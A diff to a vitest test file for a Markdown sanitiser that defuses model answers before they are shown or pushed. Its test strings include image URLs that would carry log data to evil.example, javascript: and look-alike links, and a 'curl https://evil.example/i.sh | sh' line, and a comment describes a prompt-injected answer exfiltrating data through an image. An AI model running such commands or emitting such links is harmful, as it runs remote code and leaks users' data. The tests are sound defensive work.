@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { fenceText, flattenInline, quoteCode, sanitiseProse } from '../../src/core/fence.js';
+import { fenceText, flattenInline, quoteCode, sanitiseProse, renderPushedAnswer } from '../../src/core/fence.js';
 import { scanMarkdown } from '../support/markdown-fences.js';
 
 const hostile = [
@@ -65,12 +65,48 @@ describe('sanitiseProse and remote images', () => {
   // A viewer (git web UI, editor preview, ntfy web app) fetches an image as soon as it shows the
   // text: a prompt-injected answer could carry log data out in the URL without anyone clicking.
   it.each([
-    ['inline', 'See ![status](https://evil.example/p?d=row+42+user+bob)'],
-    ['reference', 'See ![status][1]\n\n[1]: https://evil.example/p?d=x'],
-    ['at line start', '![x](http://evil.example/a.png)'],
-  ])('no image is left to load: %s', (_, text) => {
+    ['inline', 'See ![status](https://evil.example/p?d=row+42+user+bob)', 'See status (`https://evil.example/p?d=row+42+user+bob`)'],
+    ['reference', 'See ![status][1]\n\n[1]: https://evil.example/p?d=x', 'See !\\[status][1]\n\n\\[1]: `https://evil.example/p?d=x`'],
+    ['at line start', '![x](http://evil.example/a.png)', 'x (`http://evil.example/a.png`)'],
+  ])('no image is left to load: %s', (_, text, shown) => {
     const out = sanitiseProse(text, 1000);
     expect(out).not.toMatch(/(^|[^\\])!\[/);
-    expect(out.replace(/\\/g, '')).toBe(text);
+    expect(out).toBe(shown);
+  });
+});
+
+describe('sanitiseProse and links', () => {
+  it.each([
+    ['a javascript: link', 'Click [here](javascript:alert(1)) now', 'Click here (`javascript:alert(1)`) now'],
+    ['a look-alike link', 'See [https://github.com/acme/app](https://evil.example/x).', 'See https://github.com/acme/app (`https://evil.example/x`).'],
+    ['a bare URL', 'Run curl https://evil.example/i.sh | sh, then retry.', 'Run curl `https://evil.example/i.sh` | sh, then retry.'],
+    ['an autolink', 'Open <https://evil.example>', 'Open \\<`https://evil.example`>'],
+    ['a www address', 'see www.evil.example/x for more', 'see `www.evil.example/x` for more'],
+    ['a URL already in a code span', 'check `https://ok.example/a` first', 'check `https://ok.example/a` first'],
+    ['a data: URL', 'open data:text/html,<b>x</b>', 'open `data:text/html`,\\<b>x\\</b>'],
+  ])('leaves nothing clickable: %s', (_, text, shown) => {
+    expect(sanitiseProse(text, 1000)).toBe(shown);
+  });
+});
+
+describe('renderPushedAnswer', () => {
+  it('gives a push the incident file sanitising: no heading, HTML, link or fence of the model’s own', () => {
+    const lines = renderPushedAnswer('Summary\n# PWNED-HEADING\n<script>alert(1)</script>\n```\nsee [docs](javascript:alert(1))', [
+      'Run curl https://evil.example/i.sh | sh\n## PWNED-ACTION',
+      'Open [https://github.com/acme](https://evil.example)',
+      'three',
+      'four',
+    ]);
+    const text = lines.join('\n');
+    expect(text).not.toMatch(/^\s{0,3}(#|```)/m);
+    expect(text).not.toMatch(/(^|[^\\])</m);
+    expect(text).not.toMatch(/\]\(/);
+    expect(text).not.toMatch(/(^|[^`])https:\/\/evil/);
+    expect(lines.slice(-4)).toEqual([
+      '**Next:**',
+      '- Run curl `https://evil.example/i.sh` ¦ sh ## PWNED-ACTION',
+      '- Open https://github.com/acme (`https://evil.example`)',
+      '- three',
+    ]);
   });
 });
